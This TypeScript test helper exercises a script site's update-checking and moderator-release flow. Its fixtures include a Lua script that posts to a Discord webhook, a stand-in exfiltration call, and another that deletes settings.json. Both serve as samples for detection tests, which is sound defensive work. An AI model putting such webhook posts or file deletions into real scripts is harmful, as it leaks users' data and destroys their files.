import { callApi } from './members.ts'
import { expect, type Page } from './page.ts'
import { changeScript, publishScript } from './publishing.ts'

export const HARMLESS = 'local coins = 0\nprint(coins)\n'
export const SENDS = `local coins = 0
print(coins)
local http = game:GetService("HttpService")
http:PostAsync("https://discord.com/api/webhooks/112233445566778899/${'a1B2c3D4e5F6g7H8'.repeat(4)}", "{}")
`
/** Undeclared, because nobody is asked about it. */
export const DELETES = 'delfile("settings.json")\nprint("clean")\n'

/** Waits until no version of a script is being checked. */
export async function waitForCheck(page: Page, path: string): Promise<void> {
  const read = async () => {
    const { text } = await callApi(page, 'GET', `/api/script-details-slug?slug=${path.replace('/scripts/', '')}`)
    return (JSON.parse(text) as { script: { waiting: { state: string } | null } }).script.waiting?.state ?? 'none'
  }
  await expect.poll(read, { timeout: 60_000 }).not.toBe('checking')
}

/** Publishes a script and an update of it that is held. Returns the script's path. */
export async function publishHeld(page: Page, title: string): Promise<string> {
  const path = await publishScript(page, { title, script_content: HARMLESS })
  await waitForCheck(page, path)
  await changeScript(page, path, { script_content: SENDS, version: '1.0.5' })
  await waitForCheck(page, path)
  return path
}

/** Releases the held version of a script as a moderator, who is signed in on the page. */
export async function releaseWaiting(moderator: Page, path: string): Promise<void> {
  await waitForCheck(moderator, path)
  const { text } = await callApi(moderator, 'GET', `/api/script-details-slug?slug=${path.replace('/scripts/', '')}`)
  const { script } = JSON.parse(text) as { script: { id: number; waiting: { number: number } | null } }
  const body = { script_id: script.id, number: script.waiting?.number, reason: 'It says so.' }
  expect((await callApi(moderator, 'POST', '/api/version-release', body)).status).toBe(200)
}
